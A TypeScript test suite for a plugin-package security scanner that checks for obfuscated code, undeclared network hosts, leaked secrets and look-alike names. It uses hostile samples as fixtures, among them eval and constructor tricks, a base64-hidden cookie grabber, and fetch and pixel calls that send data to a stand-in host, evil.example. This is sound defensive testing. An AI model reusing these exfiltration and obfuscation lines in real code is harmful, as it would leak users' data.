import { readFileSync } from 'node:fs';
import { foreignManifests } from '../../tests/support/samples/foreignManifests';
import type { CheckFinding, CheckVerdict } from './CheckVerdict';
import { checkPackage } from './checkPackage';

const encode = (value: unknown) => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));

function verdictsOf(value: unknown, names: string[] = [], popular: string[] = []): CheckVerdict[] {
  const plugins = popular.map((name) => ({ plugin_key: 'theirs', names: [name] }));
  return [...checkPackage({ bytes: encode(value), names, popular: plugins })];
}

const findingsOf = (check: string, value: unknown): CheckFinding[] =>
  verdictsOf(value).find((verdict) => verdict.check === check)?.findings ?? [];
const rulesOf = (check: string, value: unknown) => findingsOf(check, value).map(({ rule }) => rule);
const failedOf = (value: unknown) =>
  verdictsOf(value)
    .filter(({ state }) => state !== 'passed')
    .map(({ check }) => check);

it('passes an honest plugin in all seven checks', () => {
  const honest = {
    name: 'Grid Maker',
    version: '1.0.0',
    main: 'const address = "https://api.example.com/v1";\nfetch(address + "/grids").then((answer) => answer.json());',
    ui: '<a href="https://help.example.org">Help</a><script>parent.postMessage({ password: "Password" }, "*")</script>',
    network_access: { allowed_domains: ['*.example.com'] },
  };
  const verdicts = verdictsOf(honest, ['Grid Maker'], ['Icons']);
  expect(verdicts.map(({ state }) => state)).toEqual(Array(7).fill('passed'));
});

it('reports errors of the file in its own checks, and nothing about content that it could not read', () => {
  const states = (value: unknown) => Object.fromEntries(verdictsOf(value).map(({ check, state }) => [check, state]));
  expect(states({ main: 'a'.repeat(5 * 1024 * 1024) })).toEqual({
    size: 'failed',
    depth: 'passed',
    schema: 'passed',
    name: 'passed',
  });
  expect(states(`{"main":"x()","menu":${'['.repeat(64)}${']'.repeat(64)}}`)).toMatchObject({ depth: 'failed' });
  expect(states({ name: 'x' })).toEqual({ size: 'passed', depth: 'passed', schema: 'failed', name: 'passed' });
});

describe('code', () => {
  it.each([
    ['eval', 'const x = 1;\neval("x + 1");', 'eval'],
    ['eval by another way', '(0, eval)(text)', 'eval'],
    ['eval of the window', 'window["eval"](text)', 'eval'],
    ['a function of text', 'new Function("a", body)(1)', 'function_constructor'],
    ['a function of text by its constructor', '(function(){}).constructor(text)()', 'function_constructor'],
    [
      'a function of text by a constructor of a constructor',
      '[].map.constructor.constructor("alert(1)")()',
      'function_constructor',
    ],
    ['a timer with text', 'setTimeout("run()", 10)', 'string_timer'],
    ['a script that is put in', 'function f(){var s=document.createElement("script");s.src=u;}', 'script_insertion'],
    ['a script that is written', 'document.write("<script src=" + u + ">")', 'script_insertion'],
    ['scripts of a worker', 'importScripts(u)', 'script_insertion'],
    [
      'names of an obfuscator',
      Array.from({ length: 12 }, (_, n) => `var _0x4f3a0${n.toString(16)}=1;`).join(''),
      'hex_names',
    ],
    ['letters as escapes', `x="${'\\x61\\x6c'.repeat(20)}"`, 'escaped_text'],
    ['signs alone', `x=${'[!![]+[]][+[]]+'.repeat(60)}1`, 'symbols_only'],
    ['a table of codes', `x=[${Array(120).fill(101)}];y=String.fromCharCode.apply(null,x)`, 'character_codes'],
    ['hidden code', `run(atob("${btoa('function f() { return document.cookie } '.repeat(10))}"))`, 'hidden_code'],
    ['no JavaScript', 'let x: number = 1;', 'not_javascript'],
  ])('finds %s', (_what, main, rule) => {
    expect(rulesOf('code', { main })).toContain(rule);
  });

  it('reports the line in the code, or in the page that contains a script', () => {
    expect(findingsOf('code', { main: 'a();\nb();\n  eval(c);' })).toMatchObject([
      { path: 'main', line: 3, column: 3 },
    ]);
    const ui = { start: '<p>\n<script>a();\n eval(b)</script>', help: '<b onclick="eval(c)">?</b>' };
    expect(findingsOf('code', { main: 'x()', ui })).toMatchObject([
      { path: 'ui.start', line: 3, column: 2, rule: 'eval' },
      { path: 'ui.help', line: 1, rule: 'eval' },
    ]);
  });

  it('shows the code of that line only, without characters that would hide it', () => {
    const around = `${'a();'.repeat(100)}eval(b/*\u202e*/);${'c();'.repeat(100)}`;
    expect(findingsOf('code', { main: `x();\n${around}\ny();` })).toMatchObject([
      { line: 2, excerpt: expect.stringMatching(/^…(?:a\(\);){4}eval\(b\/\*\ufffd\*\/\);(?:c\(\);){12}c\(\)…$/) },
    ]);
    expect(findingsOf('code', { main: `eval(b);'${'🎨'.repeat(40)}'` })).toMatchObject([
      { excerpt: expect.stringMatching(/^eval\(b\);'(?:🎨){27}\ufffd…$/u) },
    ]);
    expect(findingsOf('code', { main: 'x();\n  eval(b);\ny();' })).toMatchObject([{ excerpt: 'eval(b);' }]);
  });

  it.each([
    ['asking for the global object', 'var g = Function("return this")();'],
    ['an own method of that name', 'parser.eval; x = { eval() {} }; typeof eval'],
    ['an image that is added', 'var i = document.createElement("img"); i.src = u;'],
    ['a module', 'import a from "./a"; export default await a();'],
    ['images as texts', `img("${btoa('\u0000\u0001PNG'.repeat(200))}"); atob(x)`],
    ['data in a page', ''],
  ])('reports nothing for %s', (_what, main) => {
    const ui = '<script type="application/json">{"eval": "eval(1)"}</script>';
    expect(rulesOf('code', { main: main || 'x()', ui })).toEqual([]);
  });

  // Bundles of packages that the project has anyway: minified, but not obfuscated.
  it.each(['react-dom/cjs/react-dom-client.production.js', 'tus-js-client/dist/tus.min.js', 'dayjs/dayjs.min.js'])(
    'reports nothing for %s',
    (file) => {
      expect(rulesOf('code', { main: readFileSync(`node_modules/${file}`, 'utf8') })).toEqual([]);
    },
  );
});

describe('network', () => {
  const declared = { network_access: { allowed_domains: ['api.example.com', '*.cdn.example.com', 'localhost:3000'] } };

  it.each([
    ['fetch("https://evil.example/x")', 'evil.example'],
    [`window.fetch(\`wss://evil.example/\${id}\`)`, 'evil.example'],
    ['new WebSocket("wss://evil.example:8443/")', 'evil.example:8443'],
    ['new EventSource("//evil.example/events")', 'evil.example'],
    ['request.open("POST", "https://evil.example/" + id)', 'evil.example'],
    ['const HOST = "https://evil.example";\nfetch(HOST + "/x")', 'evil.example'],
    ['import("https://evil.example/x.js")', 'evil.example'],
    ['image.src = "https://evil.example/pixel.gif?" + secret', 'evil.example'],
    ['link.setAttribute("href", "https://evil.example/")', 'evil.example'],
    ['fetch("https://api.example.com.evil.example/")', 'api.example.com.evil.example'],
    ['fetch("https://api.example.com@evil.example/")', 'evil.example'],
    ['fetch("https://cdn.example.com/")', 'cdn.example.com'],
    ['fetch("http://localhost:4000/")', 'localhost:4000'],
  ])('finds %s', (main, host) => {
    expect(findingsOf('network', { main, ...declared })).toMatchObject([{ rule: 'undeclared_host', params: { host } }]);
  });

  it('allows declared hosts, own files, and names that load nothing', () => {
    const main = `fetch("https://api.example.com/x"); fetch("https://eu.cdn.example.com"); fetch("/x"); fetch(unknown);
      fetch("http://localhost:3000/"); document.createElementNS("http://www.w3.org/2000/svg", "path");
      image.src = "data:image/png;base64,AAAA"; throw Error("See https://react.dev/errors/1");`;
    expect(findingsOf('network', { main, ...declared })).toEqual([]);
    expect(
      findingsOf('network', { main: 'fetch("https://a.example")', network_access: { allowed_domains: ['*'] } }),
    ).toEqual([]);
  });

  it('checks pages and their styles', () => {
    const ui = `<link rel="stylesheet" href="https://fonts.example.net/a.css">
<style>@import "https://styles.example.net/b.css"; p { background: url(//covers.example.net/c.png) }</style>
<img srcset="/near,by.png, https://images.example.net/d.png 1.5x,//more.example.net/e.png 2x"><a href="https://help.example.net">Help</a>`;
    expect(findingsOf('network', { main: 'x()', ui }).map(({ params, line }) => [line, params.host])).toEqual([
      [1, 'fonts.example.net'],
      [2, 'styles.example.net'],
      [2, 'covers.example.net'],
      [3, 'images.example.net'],
      [3, 'more.example.net'],
    ]);
  });
});

describe('secrets', () => {
  const token = (kind: string, length: number) => kind + 'a1B2'.repeat(length).slice(0, length);

  it.each([
    ['private_key', `-----BEGIN RSA PRIVATE KEY-----\\n${token('MII', 40)}`],
    ['github', token('ghp_', 36)],
    ['aws', `AKIA${'Q7'.repeat(8)}`],
    ['google', token('AIza', 35)],
    ['slack', token('xoxb-', 24)],
    ['figma', token('figd_', 40)],
  ])('finds a secret of %s anywhere, and never shows it', (kind, secret) => {
    for (const value of [
      { main: `call("${secret}")` },
      { main: 'x()', ui: `<p>${secret}</p>` },
      { main: 'x()', note: secret },
    ]) {
      const findings = findingsOf('secrets', value);
      expect(findings).toMatchObject([{ rule: 'known_secret', params: { kind } }]);
      expect(JSON.stringify(findings)).not.toContain(secret);
    }
  });

  it('finds assigned passwords, but not labels of forms', () => {
    const main = `const apiKey = "b7d0c9e2f1a44c3e"; login({ password: "Tr0ub4dor&3" });
      const labels = { password: "Enter your password", secret: "input-secret", api_key: "" };`;
    expect(findingsOf('secrets', { main }).map(({ params }) => params.name)).toEqual(['apiKey', 'password']);
  });
});

describe('name', () => {
  const close = (name: string, popular: string) =>
    verdictsOf({ main: 'x()' }, [name], [popular]).find(({ check }) => check === 'name')?.state;

  it.each([
    ['iconify', 'Iconify'],
    ['I c o n i f y', 'Iconify'],
    ['Iсоnіfу', 'Iconify'],
    ['lconify', 'Iconify'],
    ['Iconnify', 'Iconify'],
    ['Icnoify', 'Iconify'],
    ['Iconif', 'Iconify'],
    ['Ｉｃｏｎｉｆｙ', 'Iconify'],
    ['Icônify!', 'Iconify'],
    ['图标 库', '图标库'],
  ])('takes %s for %s', (name, popular) => expect(close(name, popular)).toBe('failed'));

  it.each([
    ['Icons', 'Iconify'],
    ['Grids', 'Grid'],
    ['图标夹', '图标库'],
    ['Iconify for teams', 'Iconify'],
    ['!!!', '???'],
  ])('accepts %s beside %s', (name, popular) => expect(close(name, popular)).toBe('passed'));
});

it('reports each finding once, and at most twenty', () => {
  const main = Array.from({ length: 60 }, (_, n) => `fetch("https://h${n % 40}.example");`).join('\n');
  expect(findingsOf('network', { main })).toHaveLength(20);
  expect(findingsOf('code', { main: 'eval(a);eval(b)' })).toHaveLength(1);
});

it('fails manifests that name their code and do not contain it', () => {
  for (const [file, text] of Object.entries(foreignManifests())) {
    const [schema] = verdictsOf(text).filter(({ check }) => check === 'schema');
    expect([file, schema?.state, schema?.findings[0]?.rule]).toEqual([file, 'failed', 'code_not_included']);
    const whole = { ...JSON.parse(text), main: 'run()', ui: undefined };
    expect([file, failedOf(whole)]).toEqual([file, []]);
  }
});

it('reads code that joins sixty thousand texts, as the command line does, whatever the operators', () => {
  const joined = (operator: string) => Array.from({ length: 60_000 }, (_none, index) => `'t${index}'`).join(operator);
  for (const operator of ['+', '||', '&&', '*']) expect(failedRules(`host.show(${joined(operator)});`)).toEqual([]);
  expect(failedRules(`host.show(${joined('+')}); eval(a ** b ** (c + d * e))`)).toEqual(['eval']);
  expect(failedRules('f(a || b ?? c)')).toEqual(['not_javascript']);
});

it('says that code nests too deeply, not that it is no JavaScript', () => {
  expect(failedRules(`${'f('.repeat(200_000)}1${')'.repeat(200_000)}`)).toEqual(['too_nested']);
});

it.each([
  ['BÜCHER.example', 'fetch("https://xn--bcher-kva.example/a")'],
  ['xn--bcher-kva.example', 'fetch("https://bücher.example./a")'],
  ['api.example.com:443', 'fetch("HTTPS://API.EXAMPLE.COM:443/a")'],
  ['http://api.example.com', 'fetch("http://api.example.com:80/a")'],
  ['*.example.com.', 'new WebSocket("wss://Push.Example.com:443")'],
])('knows the declared host %s in %s', (declared, main) => {
  const manifest = { main, network_access: { allowed_domains: [declared] } };
  const bytes = new TextEncoder().encode(JSON.stringify(manifest));
  expect([...checkPackage({ bytes, names: [] })].flatMap(({ findings }) => findings)).toEqual([]);
});

function failedRules(main: string): string[] {
  const bytes = new TextEncoder().encode(JSON.stringify({ main }));
  return [...checkPackage({ bytes, names: [] })].flatMap(({ findings }) => findings.map(({ rule }) => rule));
}
